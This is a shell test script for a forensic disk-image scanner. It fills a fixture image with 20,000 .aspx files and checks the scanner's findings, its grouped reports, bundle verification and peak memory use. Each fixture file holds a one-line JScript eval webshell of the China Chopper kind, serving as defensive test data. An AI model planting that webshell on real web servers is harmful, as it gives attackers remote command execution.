#!/bin/sh
# 20,000 flagged files: every finding in findings.jsonl, the report lists
# the repeated ones once with their count, the bundle verifies, and the
# release binary's peak memory stays bounded (documents are written in
# bounded pieces, not rendered whole).  No timing is asserted.
. "$TOP/tests/lib/tap.sh"
N=20000
# Peak RSS of the release binary, in KB, bounded linearly from the goal
# of issue #23 (100,000 findings under 256 MB with --bundle): 32 MB for
# the program and its rules, plus 2,300 bytes per finding (256 MB at
# 100,000), so a cost that grows faster than the findings shows here.
# Measured at N=20,000: 40 MB with --out, 59 MB with --bundle (the
# manifest and SHA256SUMS are spooled to a file, the timeline is 16
# bytes a row, rule texts are kept once); 57 and 93 MB before, and
# 150 and 189 MB at 10,000 when documents were rendered whole.
MAX_KB=$((32000 + N * 2300 / 1024))
: "${EXHUME_REL:=$EXHUME}"

{
	echo "disk gpt size=160M"
	echo "part ntfs start=2048 size=150M label=SYSTEM"
	printf '%s\n' 'file \Windows\System32\config\SYSTEM size=64K fill=random:7'
	printf '%s\n' 'mkdir \inetpub\wwwroot\aspnet_client'
	i=1
	while [ $i -le $N ]; do
		printf 'file \\inetpub\\wwwroot\\aspnet_client\\s%05d.aspx text:<%%@ Page Language="Jscript"%%><%%eval(Request.Item["x"],"unsafe");%%>\n' $i
		i=$((i + 1))
	done
} >"$TMP/many.spec"
mkimage "$TMP/many.spec" "$TMP/many.img" || ok 1 "fixture builds"
IMAGES="$TMP/many.img"

# The release binary, measured (ASan's shadow memory would swamp the figure).
cat >"$TMP/timed" <<EOS
#!/bin/sh
exec /usr/bin/time -f %M -o "\$RSS_FILE" "$EXHUME_REL" "\$@"
EOS
chmod +x "$TMP/timed"
san=$EXHUME
EXHUME=$TMP/timed
export RSS_FILE="$TMP/rss-out"
run scan "$TMP/many.img" --out "$TMP/o"
[ "$RC" -eq 1 ]; ok $? "scan --out finishes with exit 1 (findings)"
RSS_FILE="$TMP/rss-zip"
run scan "$TMP/many.img" --bundle "$TMP/case.zip"
[ "$RC" -eq 1 ]; ok $? "scan --bundle finishes with exit 1 (findings)"
EXHUME=$san

n=$(grep -c '"path":"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\s[0-9]*\.aspx"' "$TMP/o/findings.jsonl")
[ "$n" -eq $N ]; ok $? "findings.jsonl has every finding ($n of $N)"
[ "$(wc -l <"$TMP/o/findings.jsonl")" -eq $N ]; ok $? "and nothing else"
# 8 times ($SI and $FN) per file.
[ "$(grep -c 'aspnet_client' "$TMP/o/timeline.csv")" -eq $((8 * N)) ]
ok $? "timeline.csv has every time of every finding"

# (the generic eval rules of webshells-aspnet-generic.yar join the rule list)
grep -F ": $N findings in C:\\inetpub\\wwwroot\\aspnet_client (first 20 listed; all in findings.jsonl)" "$TMP/o/report.txt" |
    grep "EXH_SUSP_ASPX_In_ASPNet_Client, " | grep -q "EXH_WEBSHELL_Chopper_JScript_Eval"
ok $? "report.txt aggregates them with the count"
grep -q "more than 20 findings with the same rules are in one folder" "$TMP/o/report.txt"
ok $? "and says where the threshold is"
[ "$(grep -c '^F[0-9]*$' "$TMP/o/report.txt")" -eq 20 ]
ok $? "report.txt lists the first 20 in full"
grep -q "$N findings in C:\\\\inetpub\\\\wwwroot\\\\aspnet_client (first 20 listed" "$TMP/o/report.html"
ok $? "so does report.html"
[ "$(grep -o 's[0-9]*\.aspx' "$TMP/o/report.html" | sort -u | wc -l)" -le 40 ]
ok $? "report.html does not list every file"

run verify "$TMP/case.zip"
ok $RC "exhume verify accepts the bundle"
mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../case.zip)
cmp -s "$TMP/x/findings.jsonl" "$TMP/o/findings.jsonl"
ok $? "the bundle's findings.jsonl is the same as --out's"
[ "$(grep -c '"status":"collected"' "$TMP/x/manifest.jsonl")" -ge $N ]
ok $? "every flagged file is collected"

for f in rss-out rss-zip; do
	kb=$(tail -n 1 "$TMP/$f")
	diag "$f: peak RSS $kb KB (bound $MAX_KB KB)"
	[ "$kb" -lt $MAX_KB ]; ok $? "peak RSS of ${f#rss-} run under $MAX_KB KB"
done
report_unchanged
done_testing
